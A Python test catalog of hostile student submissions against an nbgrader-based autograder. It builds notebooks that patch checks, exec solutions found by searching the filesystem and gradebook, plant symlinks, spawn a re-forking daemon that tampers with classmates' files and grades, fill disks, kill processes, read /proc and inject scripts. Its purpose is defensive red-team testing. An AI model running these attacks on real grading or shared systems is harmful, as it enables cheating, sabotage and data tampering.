"""One catalog of hostile submissions: attacks that try to raise a score, and faults that try to break grading.

Each `Attack` changes one notebook of an assignment (`apply(nb) -> nb`). Its `base` says which notebook it
expects: "release" (the blank release notebook, honest score 0: any point it earns is unearned), "solution"
(the full solution) or "solution-without-training" (the full solution, training exercises left blank: the
same test at a fraction of the cost) or "leaf" (only the solution cell of `leaf_exercise` filled in). On a solution it must earn exactly what its honest parts earn: the max
scores of the filled exercises minus those of `breaks` (see `expected_score`).

`fools_plain` records whether it earns more than that under plain `nbgrader autograde` (nbgrader's stock
Execute: the checks run inside the student's kernel, as the course's test cells do in JupyterLab).
`assignments` names where tests/test_attack_catalog.py runs it (None: on every assignment); `slow` marks the
ones that cost a time limit (never returning, sleeping): run them apart, their time assertions live in
tests/test_limits.py and its e2e companions. `damage` marks the ones whose harm would land on other students
or on files outside the submission (the catalog test hashes those), `leaks` the ones that print what a
student must not see into the graded notebook.
"""
from __future__ import annotations

import ast
import functools
import re
from collections.abc import Callable
from dataclasses import dataclass

import nbformat

from graders.tooling.course import (
    graded_cells,
    nbgrader_meta,
    notebook_path,
    read_notebook,
)

BASES = ("release", "solution", "solution-without-training", "leaf")
#: The note every attack that plants or leaves something uses, so the test and the next student can find it.
NOTE = "nnfs-attack-note"


@dataclass(frozen=True)
class Attack:
    name: str
    apply: Callable       # notebook -> notebook
    fools_plain: bool     # earns more than `expected_score` under plain nbgrader autograde
    base: str = "release"  # one of BASES: the notebook `apply` expects
    breaks: tuple = ()    # exercises of a solution base whose points it costs
    assignments: tuple | None = None  # where the catalog test runs it (None: every assignment)
    slow: bool = False    # costs a time limit: run apart, once, on 01
    note: str = ""        # what it does, and why it scores what it scores


# -- notebook surgery --------------------------------------------------------------------------------------
def _setup_index(nb) -> int:
    """Index of the last `setup`-tagged cell (03 has two: imports, then the given functions)."""
    return max(i for i, c in enumerate(nb.cells) if "setup" in c.metadata.get("tags", []))


def after_setup(code: str) -> Callable:
    """Add a code cell right after the setup cells (before any test cell runs)."""
    def apply(nb):
        nb.cells.insert(_setup_index(nb) + 1, nbformat.v4.new_code_cell(code))
        return nb
    return apply


def at_end(code: str) -> Callable:
    """Add a code cell after every other cell (after every test cell has run)."""
    def apply(nb):
        nb.cells.append(nbformat.v4.new_code_cell(code))
        return nb
    return apply


def as_answer(code: str) -> Callable:
    """Hand the attack in as the answer: the first solution cell holds it, the other stubs are emptied."""
    def apply(nb):
        first = True
        for cell in nb.cells:
            if cell.cell_type == "code" and nbgrader_meta(cell).get("solution"):
                cell.source = code if first else ""
                first = False
        return nb
    return apply


def as_every_answer(code: str) -> Callable:
    """Every solution cell holds the attack (so it runs again where each exercise's stub would)."""
    def apply(nb):
        for cell in nb.cells:
            if cell.cell_type == "code" and nbgrader_meta(cell).get("solution"):
                cell.source = code
        return nb
    return apply


def after_cell_defining(name: str, code: str) -> Callable:
    """Add a code cell right after the solution cell that defines `name`."""
    def apply(nb):
        index = next(i for i, c in enumerate(nb.cells) if nbgrader_meta(c).get("solution")
                     and name in _defined_functions(c.source))
        nb.cells.insert(index + 1, nbformat.v4.new_code_cell(code))
        return nb
    return apply


def replacing(name: str, code: str) -> Callable:
    """Replace the top-level definition of `name` in its solution cell with `code`."""
    from graders.tooling.examples import replace_function

    def apply(nb):
        for cell in nb.cells:
            if nbgrader_meta(cell).get("solution") and name in _defined_functions(cell.source):
                cell.source = replace_function(cell.source, name, code)
                return nb
        raise ValueError(f"no solution cell defines {name!r}")
    return apply


def prepending_to_cell_of(name: str, code: str) -> Callable:
    """Put `code` at the top of the solution cell that defines `name`."""
    def apply(nb):
        cell = next(c for c in nb.cells if nbgrader_meta(c).get("solution") and name in _defined_functions(c.source))
        cell.source = code + cell.source
        return nb
    return apply


def chain(*changes: Callable) -> Callable:
    def apply(nb):
        for change in changes:
            nb = change(nb)
        return nb
    return apply


def on_test_cells(change: Callable) -> Callable:
    def apply(nb):
        cells = []
        for cell in nb.cells:
            meta = nbgrader_meta(cell)
            if meta.get("grade") and not meta.get("solution"):
                cell = change(cell)
            if cell is not None:
                cells.append(cell)
        nb.cells = cells
        return nb
    return apply


def _blank_test(cell):
    cell.source = "pass"
    return cell


def _rewrite_test_metadata(cell):
    cell.metadata["nbgrader"].update(points=100, grade=False, locked=False)
    cell.source = "pass"
    return cell


# -- what an assignment offers to attack -------------------------------------------------------------------
def _defined_functions(source: str) -> list[str]:
    try:
        return [node.name for node in ast.parse(source).body if isinstance(node, ast.FunctionDef)]
    except SyntaxError:
        return []


@functools.cache
def _read_source(path: str):
    return read_notebook(path)


def _source(assignment: str):
    """The source notebook of `assignment` (read once per path: callers must not change it)."""
    return _read_source(str(notebook_path(assignment)))


def exercise_maxima(assignment: str) -> dict[str, float]:
    """exercise -> its max score (visible and hidden cells together), as the gradebook holds them."""
    maxima: dict[str, float] = {}
    for cell in graded_cells(_source(assignment)):
        maxima[cell.exercise] = maxima.get(cell.exercise, 0.0) + cell.points
    return maxima


def training_exercises(assignment: str) -> tuple:
    """The exercises that train a model (the expensive ones: the contract's `train_*`)."""
    return tuple(e for e in exercise_maxima(assignment) if e.startswith("train_"))


def leaf_exercise(assignment: str) -> str:
    """The first exercise no other solution or setup cell calls: breaking it costs its own points only."""
    nb = _source(assignment)
    # the cells whose definitions the checks reach: solution cells, and the given ones of `setup` (a demo cell
    # that calls a broken function fails harmlessly)
    code = [c for c in nb.cells if c.cell_type == "code" and (nbgrader_meta(c).get("solution")
                                                               or "setup" in c.metadata.get("tags", []))]
    for exercise in exercise_maxima(assignment):
        if exercise in training_exercises(assignment):
            continue
        word = re.compile(rf"\b{re.escape(exercise)}\b")
        users = [c for c in code if word.search(c.source) and exercise not in _defined_functions(c.source)]
        if not users:
            return exercise
    raise LookupError(f"{assignment}: every exercise is called by another cell")


def cell_functions(assignment: str, name: str) -> tuple:
    """Every function the solution cell that defines `name` defines (what an import rule there costs)."""
    for cell in _source(assignment).cells:
        if nbgrader_meta(cell).get("solution") and name in _defined_functions(cell.source):
            return tuple(_defined_functions(cell.source))
    raise LookupError(f"{assignment}: no solution cell defines {name!r}")


def filled_exercises(assignment: str, base: str) -> tuple:
    """The exercises a base notebook answers (their solution cells filled in)."""
    if base == "release":
        return ()
    if base == "leaf":
        return cell_functions(assignment, leaf_exercise(assignment))
    skip = training_exercises(assignment) if base == "solution-without-training" else ()
    return tuple(e for e in exercise_maxima(assignment) if e not in skip)


def base_notebook(attack: Attack, assignment: str):
    """The notebook `attack.apply` expects, made from the release of `assignment` (NNFS_COURSE_ROOT's)."""
    from graders.tooling.examples import Submission, make_submission

    if attack.base == "release":
        return read_notebook(notebook_path(assignment, "release"))
    nb = _source(assignment)
    filled = set(filled_exercises(assignment, attack.base))
    fill = tuple(nbgrader_meta(c)["grade_id"] for c in nb.cells if nbgrader_meta(c).get("solution")
                 and set(_defined_functions(c.source)) <= filled)
    return make_submission(assignment, Submission(fill=fill))


def expected_score(attack: Attack, assignment: str, maxima: dict[str, float] | None = None) -> float:
    """What `attack` must score on `assignment`: the max scores of the exercises it answers and leaves intact.
    Autograded points only: a written answer (a `written_<topic>` cell) waits for a TA, so no attack earns it.

    maxima: exercise -> max score (the gradebook's; default: the source notebook's)."""
    maxima = maxima if maxima is not None else exercise_maxima(assignment)
    return sum(maxima[e] for e in filled_exercises(assignment, attack.base) if e not in attack.breaks)


# -- attack code ---------------------------------------------------------------------------------------------
ZEROS = "\n".join(f"def {name}(*args, **kwargs):\n    return np.zeros(np.shape(args[0]))\n" for name in
                  ("sigmoid", "sigmoid_grad", "relu", "relu_grad", "leaky_relu", "leaky_relu_grad", "tanh_grad",
                   "gelu", "gelu_grad"))

EXEC_SOLUTIONS = """
import json, pathlib
for guess in ["../../../{folder}/01_neuron/neuron.ipynb", "{root}/{folder}/01_neuron/neuron.ipynb"]:
    path = pathlib.Path(guess)
    if path.exists():
        for cell in json.loads(path.read_text())["cells"]:
            if cell["cell_type"] == "code" and cell.get("metadata", {{}}).get("nbgrader", {{}}).get("solution"):
                exec("".join(cell["source"]), globals())
        break
"""

READ_GRADEBOOK = """
import sqlite3, pathlib
for guess in ["../../../gradebook.db", "{root}/gradebook.db"]:
    if pathlib.Path(guess).exists():
        db = sqlite3.connect(guess)
        for (source,) in db.execute("select source from source_cell"):
            if "### BEGIN SOLUTION" in source:
                exec(source, globals())
        break
"""

#: Searches every place a course copy, a classmate's notebook or a gradebook might be, and runs what it finds.
#: Every solution cell of the attacked notebook holds this, so the found definitions are (re)made in order.
COPY_ANYTHING = r'''
import glob, json, os, sqlite3
__found = []
def __cells(path):
    try:
        with open(path, encoding="utf-8") as f:
            return [c for c in json.load(f)["cells"] if c.get("cell_type") == "code"]
    except Exception:
        return []
__roots = ["../../..", "../../../..", {root!r}, os.path.expanduser("~"), "/opt", "/root", "/home", "/tmp", "/var/tmp",
           "/srv", "/mnt", "/media", "/work"]
for __top in __roots:
    for __pattern in ("*/source/{a}/*.ipynb", "source/{a}/*.ipynb", "*/*/source/{a}/*.ipynb", "*/*/*/source/{a}/*.ipynb",
                      "solutions/{a}/*.ipynb", "*/solutions/{a}/*.ipynb", "submitted/*/{a}/*.ipynb",
                      "autograded/*/{a}/*.ipynb", "*/submitted/*/{a}/*.ipynb", ".grading/executed/*/{a}/*.ipynb"):
        for __path in glob.glob(os.path.join(__top, __pattern)):
            __found.append(__path)
            for __cell in __cells(__path):
                __meta = __cell.get("metadata", {{}}).get("nbgrader", {{}})
                if __meta.get("solution") or "solutions" in __path:
                    try:
                        exec("".join(__cell["source"]), globals())
                    except BaseException:
                        pass
    for __db in glob.glob(os.path.join(__top, "gradebook.db")) + glob.glob(os.path.join(__top, "*", "gradebook.db")):
        __found.append(__db)
        try:
            for (__source,) in sqlite3.connect(__db).execute("select source from source_cell"):
                exec(__source, globals())
        except BaseException:
            pass
print("found:", len(__found))
'''

PROC_PATHS = r'''
import glob
for path in ["/proc/self/mountinfo", "/proc/self/mounts", "/proc/self/environ", "/proc/self/cgroup"] + sorted(glob.glob("/proc/*/cmdline")) + sorted(glob.glob("/proc/*/cwd")):
    try:
        import os
        text = os.readlink(path) if path.endswith("/cwd") else open(path, "rb").read().replace(b"\0", b" ").decode("utf-8", "replace")
        print(path, text)
    except Exception as exc:
        print(path, type(exc).__name__)
'''

#: Plants links (and named pipes) at every name the grader writes or reads in and around the working copy,
#: then kills the kernel so the grader restarts it (and writes its connection file again).
PLANT_LINKS = r'''
import os, glob
targets = {targets!r}
names = [{notebook!r}, "../kernel.json", "timestamp.txt", ".grading/executed/{notebook}", ".grading/done/{a}/x.json", "../nnfs_stub.py", "../home/.bashrc", "../work.ipynb", "feedback.html",
         "../../" + os.path.basename(os.path.dirname(os.getcwd())) + "-channels/ipc-1"]
for name in names:
    for i in range(len(targets)):
        link = name if i == 0 else f"{{name}}.{{i}}"
        target = targets[(names.index(name) + i) % len(targets)]
        try:
            os.makedirs(os.path.dirname(link) or ".", exist_ok=True)
            if os.path.lexists(link):
                os.remove(link)
            os.symlink(target, link)
            print("linked", link, "->", target)
        except Exception as exc:
            print("could not link", link, type(exc).__name__)
for name in ["answer.json", "../answer.json", "../rpc", "../" + {notebook!r}]:
    try:
        os.mkfifo(name)
        print("fifo", name)
    except Exception as exc:
        print("no fifo", name, type(exc).__name__)
for old in glob.glob("../ipc-*"):
    try:
        os.remove(old); os.symlink(targets[0], old)
    except Exception:
        pass
os._exit(1)
'''

#: A daemon that outlives the kernel: double fork, setsid, then a loop that keeps re-forking while it tampers
#: with whatever it can reach of the next students and the course, for a minute.
OUTLIVE = r'''
import os, time, glob
def __tamper():
    root = {root!r}
    deadline = time.time() + 90
    while time.time() < deadline:
        if os.fork():
            os._exit(0)  # the parent dies: a new pid every round, so one kill pass misses it
        for folder in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
            try:
                open(os.path.join(folder, "{note}-outlive"), "w").write("left by a previous student")
            except Exception:
                pass
        for sandbox in glob.glob("/tmp/nnfs-sandbox-*") + glob.glob("../../nnfs-sandbox-*"):
            for target in glob.glob(sandbox + "/nnfs_stub.py") + glob.glob(sandbox + "/work/*.ipynb"):
                try:
                    open(target, "a").write("\nraise SystemExit('{note}')\n")
                except Exception:
                    pass
            try:
                open(sandbox + "/work/{note}-outlive", "w").write("x")
            except Exception:
                pass
        for target in glob.glob(root + "/submitted/*/*/*.ipynb") + [root + "/gradebook.db"] + glob.glob(root + "/source/*/*.ipynb"):
            try:
                open(target, "a").write("{note}")
            except Exception:
                pass
        try:
            import sqlite3
            db = sqlite3.connect(root + "/gradebook.db")
            db.execute("update grade set manual_score = 100")
            db.commit()
        except Exception:
            pass
        time.sleep(0.2)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import signal
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        try:
            __tamper()
        finally:
            os._exit(0)
    os._exit(0)
time.sleep(1)
'''

#: Fills the scratch folders beyond the tmpfs cap and leaves notes there for the next student.
FILL_SCRATCH = r'''
import os
for folder in ("/dev/shm", "/tmp", "/var/tmp"):
    try:
        open(os.path.join(folder, "{note}-scratch"), "w").write("left by a previous student")
        with open(os.path.join(folder, "{note}-fill"), "wb") as f:
            for _ in range(320):
                f.write(b"\1" * 2**20)
    except Exception as exc:
        print(folder, type(exc).__name__)
'''

NETWORK = r'''
import socket
for address in [("127.0.0.1", {port}), ("1.1.1.1", 53), ("1.1.1.1", 443)]:
    try:
        with socket.create_connection(address, timeout=3) as s:
            s.sendall(b"{note}")
        print("connected", address)
    except Exception as exc:
        print("no connection", address, type(exc).__name__)
'''

SCRIPT_OUTPUTS = r'''
from IPython.display import HTML, Javascript, display, Markdown
display(HTML("<script>document.title='{note}'</script><img src=x onerror=\"document.title='{note}'\">"))
display(Javascript("document.title='{note}'"))
display(Markdown("<script>document.title='{note}'</script>"))
display({{"application/javascript": "document.title='{note}'", "text/plain": "ok"}}, raw=True)
'''

#: Every exercise's function records its arguments; the last cell prints them all into the notebook.
RECORD_ARGS = r'''
import numpy as np
__calls = globals().setdefault("__nnfs_calls", [])
def __recorder(name):
    def record(*args, **kwargs):
        __calls.append((name, args, kwargs))
        return None
    return record
for __name in {exercises!r}:
    globals()[__name] = __recorder(__name)
'''

PRINT_ARGS = r'''
import numpy as np
def __flat(value):
    if isinstance(value, np.ndarray):
        yield value
    elif isinstance(value, (list, tuple)):
        for v in value:
            yield from __flat(v)
    elif isinstance(value, dict):
        for v in value.values():
            yield from __flat(v)
__printed = set()
for __name, __args, __kwargs in __nnfs_calls:
    for __array in __flat([__args, __kwargs]):
        __line = f"ARG: {__name} {np.asarray(__array, dtype=float).ravel()[:6].tolist()!r}"
        if __line not in __printed and len(__printed) < 3000:  # within the 1 MiB a cell may print
            __printed.add(__line)
            print(__line)
'''

#: Answers that no grader can decode naively: huge, deep, repeated, of no type a check knows.
UNDECODABLE = [
    "10**400",
    "-(10**400)",
    "__deep()",
    "[[]] * 300_000",
    "[np.ones(2**19)] * 200",
    "'x' * 20_000_000",
    "{i: None for i in range(10)}",
    "(lambda: None)",
    "__import__('os')",
    "np.broadcast_to(np.ones(1), (2**25,))",
    "complex(1, 1)",
    "np.array([object()])",
]
#: Answers that lie about what they are.
LYING = [
    "float('nan')",
    "np.full(np.shape(args[0]) if args else (), np.nan)",
    "__Yes()",
    "__Arr()",
    "__Sub(args[0]) if args and isinstance(args[0], np.ndarray) else __Yes()",
    "(x for x in range(3))",
    "__Bomb()",
    "np.inf",
]
HOSTILE_VALUES_PRELUDE = r'''
import numpy as np
def __deep():
    value = []
    for _ in range(20_000):
        value = [value]
    return value
class __Yes:
    shape = (3,)
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __gt__(self, other): return True
    def __len__(self): return 3
    def __float__(self): return 0.0
    def __array__(self, dtype=None, copy=None): return np.zeros(3)
class __Arr:
    def __array__(self, dtype=None, copy=None): return np.zeros(3)
    def __array_ufunc__(self, *a, **k): return True
    def __array_function__(self, *a, **k): return True
class __Sub(np.ndarray):
    def __new__(cls, base): return np.asarray(base, dtype=float).view(cls)
    def __eq__(self, other): return np.ones(np.shape(self), bool)
    def __array_ufunc__(self, *a, **k): return True
    def __reduce__(self): raise RuntimeError("{note}")
def __from_the_grader():
    import sys
    if sys._getframe(2).f_globals.get("__name__") == "__main__":
        raise NotImplementedError("only the grader gets these answers")
class __Bomb:
    def __getattr__(self, name): raise SystemExit("{note}")
    def __repr__(self): raise SystemExit("{note}")
    def __reduce__(self): raise SystemExit("{note}")
'''


def returning(values: list[str], exercises: list[str]) -> str:
    """Code that defines every exercise's function to return one of `values` (cycling through them) when the
    grader calls it; called from the notebook's own demo cells it raises at once (a demo cell plotting 50 MB of
    text only costs time)."""
    lines = [HOSTILE_VALUES_PRELUDE.format(note=NOTE)]
    for index, exercise in enumerate(exercises):
        lines.append(f"def {exercise}(*args, **kwargs):\n    __from_the_grader()\n"
                     f"    return {values[index % len(values)]}\n")
    return "\n".join(lines)


KILL_THE_GRADER = r'''
import os, signal
for pid in (os.getppid(), 1, -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except Exception as exc:
        print(pid, type(exc).__name__)
os.system("kill -9 -1")
'''


def tripwire(leaf: str) -> str:
    """For the honest student graded after the attacks: if anything a previous student left is in its view,
    break its own `leaf` so that its full marks (which the test asserts) are lost, and say what it found."""
    return rf'''
import glob, os
__note = "{NOTE[:6]}" + "{NOTE[6:]}"  # not the note itself: this cell is in the notebook it reads
__left = []
for __folder in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), ".", ".."):
    __left += glob.glob(os.path.join(__folder, __note + "*"))
for __path in glob.glob("*.ipynb") + glob.glob("../nnfs_stub.py"):
    try:
        if __note in open(__path, errors="replace").read():
            __left.append(__path)
    except OSError:
        pass
if __left:
    print("left by a previous student:", __left)
    def {leaf}(*args, **kwargs):
        raise RuntimeError(f"left by a previous student: {{__left}}")
'''


# -- the catalog -----------------------------------------------------------------------------------------------
def _exercises(assignment: str) -> list[str]:
    return list(exercise_maxima(assignment))


def _notebook_name(assignment: str) -> str:
    return notebook_path(assignment).name


ONE = ("01_neuron",)


def attacks(root: str, assignment: str = "01_neuron", *, listener: int = 9, honest: str = "zz-honest") -> list[Attack]:
    """The catalog for one assignment.

    Inputs:
      root: str, the course folder (for the attacks that guess where the course lives, or link to its files).
      assignment: str, e.g. "01_neuron"; the attacks whose `assignments` leave it out are still returned.
      listener: int, a local TCP port the caller listens on (the network attack connects to it; default 9,
        discard, where nothing listens).
      honest: str, the student whose honest submission the link attack points at.
    Returns:
      list[Attack], names unique.
    """
    a = assignment
    exercises = _exercises(a)
    leaf = leaf_exercise(a)
    notebook = _notebook_name(a)
    scoring = tuple(e for e in exercises if e not in training_exercises(a))
    targets = [f"{root}/planted/target.txt", f"{root}/gradebook.db", f"{root}/submitted/{honest}/{a}/{notebook}",
               f"{root}/source/{a}/{notebook}"]
    catalog = [
        # the first catalog: patching the checks, faking answers, rewriting test cells (01's function names)
        Attack("redefine check in the notebook", after_setup("check = lambda *a, **k: None"), False,
               assignments=ONE),
        Attack("patch graders.check", after_setup("import graders\ngraders.check = lambda *a, **k: None"), True,
               assignments=ONE),
        Attack("patch the report to always pass", after_setup(
            "import graders.checks.report as h\nh.Report.passed = property(lambda self: True)"), True,
            assignments=ONE),
        Attack("patch numpy.allclose and return zeros", as_answer(
            "import numpy\nnumpy.allclose = lambda *a, **k: True\n" + ZEROS), True, assignments=ONE),
        Attack("patch numpy.testing", as_answer(
            "import numpy.testing\nnumpy.testing.assert_allclose = lambda *a, **k: None\n"
            "numpy.testing.assert_array_equal = lambda *a, **k: None\n" + ZEROS), False, assignments=ONE),
        Attack("patch numpy ufuncs and norms", as_answer(
            "import numpy\nnumpy.allclose = lambda *a, **k: True\nnumpy.isclose = lambda a, b, **k: numpy.ones(numpy.shape(a), bool)\n"
            "numpy.linalg.norm = lambda *a, **k: 0.0\n" + ZEROS), True, assignments=ONE),
        Attack("return an object with a faked __eq__", as_answer(
            "class Yes:\n    def __eq__(self, other):\n        return True\n    shape = (3,)\n"
            "def sigmoid(z):\n    return Yes()\nrelu = sigmoid"), False, assignments=ONE),
        Attack("return an object with a faked __array__", as_answer(
            "class Arr:\n    def __array__(self, dtype=None, copy=None):\n        return numpy.zeros(3)\n"
            "import numpy\ndef sigmoid(z):\n    return Arr()"), False, assignments=ONE),
        Attack("return an object with a faked __array_ufunc__", as_answer(
            "class U:\n    def __array_ufunc__(self, *a, **k):\n        return True\n    shape = (3,)\n"
            "def sigmoid(z):\n    return U()"), False, assignments=ONE),
        Attack("import the reference from graders", as_answer(
            f"from graders.tooling.reference import reference\nglobals().update(reference({a!r}))"), True,
            assignments=ONE),
        Attack("exec the source notebook's solutions", as_answer(EXEC_SOLUTIONS.format(folder="source", root=root)),
               True, assignments=ONE),
        Attack("exec the solutions folder", as_answer(EXEC_SOLUTIONS.format(folder="solutions", root=root)), True,
               assignments=ONE),
        # nbgrader keeps the released stubs in gradebook.db, not the solutions: nothing to gain, even there
        Attack("read solutions out of gradebook.db", as_answer(READ_GRADEBOOK.format(root=root)), False,
               assignments=ONE),
        Attack("blank out the locked test cells", on_test_cells(_blank_test), False, assignments=ONE),
        Attack("rewrite test cell metadata (points, grade flag)", on_test_cells(_rewrite_test_metadata), False,
               assignments=ONE),
        Attack("delete every test cell", on_test_cells(lambda cell: None), False, assignments=ONE),
        Attack("sys.exit in a cell", after_setup("import sys\nsys.exit(0)"), False, assignments=ONE),
        Attack("os._exit in a cell", after_setup("import os\nos._exit(0)"), False, assignments=ONE),
        Attack("kill the kernel", after_setup("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"), False,
               assignments=ONE),
        Attack("print output that imitates a pass", as_answer(
            "print('✓ sigmoid: 3 of 3 hidden checks passed')\ndef sigmoid(z):\n"
            "    print('✓ sigmoid: 3 of 3 hidden checks passed')\n    return z"), False, assignments=ONE),
        Attack("switch on NBGRADER_EXECUTION", after_setup(
            "import os\nif os.environ.get('NBGRADER_EXECUTION'):\n    import graders\n"
            "    graders.check = lambda *a, **k: None"), True, assignments=ONE),
        Attack("hijack the import of graders", after_setup(
            "import builtins, types\nfake = types.ModuleType('graders')\nfake.check = lambda *a, **k: None\n"
            "real_import = builtins.__import__\n"
            "builtins.__import__ = lambda name, *a, **k: fake if name == 'graders' else real_import(name, *a, **k)"), True,
            assignments=ONE),

        # the holes of issue 12, on every assignment
        Attack("plant links and pipes where the grader writes, then die", after_setup(
            PLANT_LINKS.format(targets=targets, notebook=notebook, a=a)), False,
            note="links named like the notebook, timestamp.txt, .grading/*, the connection file and the stub, "
                 "to a planted file, the gradebook, a classmate's submission: the targets must stay untouched"),
        Attack("leave a re-forking process that tampers with the next student", after_setup(
            OUTLIVE.format(root=root, note=NOTE)), False,
            note="double fork + setsid + a loop that forks anew every round; the honest student graded after it "
                 "in the same run (its tripwire) must still score full marks"),
        Attack("copy another course copy, a classmate or the gradebook", as_every_answer(
            COPY_ANYTHING.format(root=root, a=a)), True,
            note="searches ../../.., the course root, /opt, /root, /home, ~ and scratch folders for source/, "
                 "solutions/, submitted/, autograded/ and gradebook.db (the test plants copies at /opt and in the "
                 "grading user's home) and execs every solution cell found"),
        Attack("print /proc/self/mountinfo and /proc/*/cmdline", after_setup(PROC_PATHS), False,
               note="the graded notebook must not name the course's folders"),
        Attack("return undecodable values", as_answer(returning(UNDECODABLE, exercises)), False,
               note="10**400, a 20 000-deep list, 300 000 empty lists, one 4 MiB array 200 times, 20 MB of text, "
                    "a module, a 256 MiB array...: each a failed check with a message, never a grader error"),
        Attack("return values that lie", as_answer(returning(LYING, exercises)), False,
               note="NaN, objects whose __eq__/__array__/__array_ufunc__ lie, an ndarray subclass, a generator"),
        Attack("fill /dev/shm, /tmp and /var/tmp and leave notes", after_setup(FILL_SCRATCH.format(note=NOTE)), False,
               note="320 MiB to each (beyond the cap) and a note the next student's tripwire looks for"),
        Attack("connect to a local port and to 1.1.1.1", after_setup(NETWORK.format(port=listener, note=NOTE)), False,
               note="the test listens on the local port: it must see no connection"),
        Attack("emit scripts in outputs and markdown", chain(
            after_setup(SCRIPT_OUTPUTS.format(note=NOTE)),
            lambda nb: nb.cells.insert(1, nbformat.v4.new_markdown_cell(f"<script>document.title='{NOTE}'</script>"))
            or nb), False,
            note="earns nothing; that no script runs in a browser is tests/test_html_safety.py's"),
        Attack("record the hidden inputs and print them in a last cell", chain(
            as_answer(RECORD_ARGS.format(exercises=scoring)), at_end(PRINT_ARGS)), False,
            note="the graded notebook must not hold a hidden input's values"),
        Attack("SIGKILL the grader, pid 1 and every process", after_setup(KILL_THE_GRADER), False,
               note="os.kill(os.getppid()), kill -9 -1: grading goes on, the next student is graded"),
        Attack("import scipy in a solution", prepending_to_cell_of(leaf, "import scipy.special\n"), True,
               base="leaf", breaks=cell_functions(a, leaf),
               note=f"a statically visible import outside the course's modules: costs {leaf}'s points"),
        Attack("import scipy by a computed name", chain(
            after_cell_defining(leaf, f"_honest_{leaf} = {leaf}\n"
                                      f"def {leaf}(*args, **kwargs):\n"
                                      f"    __import__('sci' + 'py')\n"
                                      f"    return _honest_{leaf}(*args, **kwargs)\n")), True,
            base="leaf", breaks=cell_functions(a, leaf),
            note=f"no import statement to see: the kernel must refuse the import itself ({leaf} loses its points)"),

        # faults on a full solution: the honest parts keep their points (01 only: a full solution costs training)
        Attack("loop forever in a cell", after_setup("while True:\n    pass"), False, base="solution", assignments=ONE,
               note="the cell times out; every exercise is graded"),
        Attack("exit the kernel in a function", replacing(leaf, f"def {leaf}(*args, **kwargs):\n    import os\n    os._exit(1)\n"),
               False, base="solution", breaks=(leaf,), assignments=ONE),
        Attack("allocate without bound", after_setup("blocks = []\nwhile True:\n    blocks.append(bytearray(10**8))"),
               False, base="solution", assignments=ONE),
        Attack("print gigabytes", after_setup("import sys\nwhile True:\n    sys.stdout.write('x' * 10**6)"), False,
               base="solution", assignments=ONE),
        Attack("fork without bound", after_setup(
            "import os\nfor _ in range(100000):\n    if os.fork() == 0:\n        import time\n        time.sleep(60)\n"
            "        os._exit(0)"), False, base="solution", assignments=ONE),
        Attack("redefine check, and a wrong function", chain(
            after_setup("import builtins\nbuiltins.check = lambda *a, **k: None\ncheck = lambda *a, **k: None"),
            replacing(leaf, f"def {leaf}(*args, **kwargs):\n    return np.zeros_like(args[0])\n")), True,
            base="solution", breaks=(leaf,), assignments=ONE),
        Attack("patch numpy, and a wrong function", chain(
            after_setup("import numpy\nnumpy.allclose = lambda *a, **k: True\n"
                        "numpy.testing.assert_allclose = lambda *a, **k: None"),
            replacing(leaf, f"def {leaf}(*args, **kwargs):\n    return np.zeros_like(args[0])\n")), True,
            base="solution", breaks=(leaf,), assignments=ONE),
        Attack("import graders, and a wrong function", chain(
            after_setup("import graders\ngraders.check = lambda *a, **k: None"),
            replacing(leaf, f"def {leaf}(*args, **kwargs):\n    return np.zeros_like(args[0])\n")), True,
            base="solution", breaks=(leaf,), assignments=ONE),
        Attack("print a pass from a wrong function", replacing(
            leaf, f"def {leaf}(*args, **kwargs):\n    print('✓ {leaf}: 3 of 3 hidden checks passed')\n"
                  "    return np.zeros_like(args[0])\n"), False, base="solution", breaks=(leaf,), assignments=ONE),
        Attack("read the solutions by absolute path", after_setup(
            f"source = open({root + '/source/' + a + '/' + notebook!r}).read()"), False, base="solution",
            assignments=ONE, note="the path does not exist in the kernel's view"),
        Attack("sys.exit in a function", replacing(leaf, f"def {leaf}(*args, **kwargs):\n    import sys\n    sys.exit(0)\n"),
               False, base="solution", breaks=(leaf,), assignments=ONE),

        # slow: each costs a time limit (tests/test_limits.py and its e2e companions own the time assertions)
        Attack("a function that never returns", replacing(leaf, f"def {leaf}(*args, **kwargs):\n    while True:\n        pass\n"),
               False, base="solution", breaks=(leaf,), assignments=ONE, slow=True,
               note="costs that function's points only, and seconds, not minutes"),
        Attack("a function that ignores interrupts", replacing(
            leaf, f"def {leaf}(*args, **kwargs):\n    import signal, time\n"
                  "    signal.signal(signal.SIGINT, signal.SIG_IGN)\n    while True:\n        time.sleep(0.01)\n"),
            False, base="solution", breaks=(leaf,), assignments=ONE, slow=True,
            note="the kernel is killed and restarted: costs that function's points only"),
        Attack("a notebook that sleeps in every cell", _sleep_in_every_cell(1.0), False, base="solution",
               assignments=ONE, slow=True,
               note="1 s before every test cell (half a minute in all): the honest parts keep their points as long "
                    "as the notebook stays within its time limit (scored full here, with 240 s)"),
    ]
    assert len({attack.name for attack in catalog}) == len(catalog)
    return catalog


def _sleep_in_every_cell(seconds: float) -> Callable:
    def apply(nb):
        cells = []
        for cell in nb.cells:
            meta = nbgrader_meta(cell)
            if meta.get("grade") and not meta.get("solution"):
                cells.append(nbformat.v4.new_code_cell(f"import time\ntime.sleep({seconds})"))
            cells.append(cell)
        nb.cells = cells
        return nb
    return apply
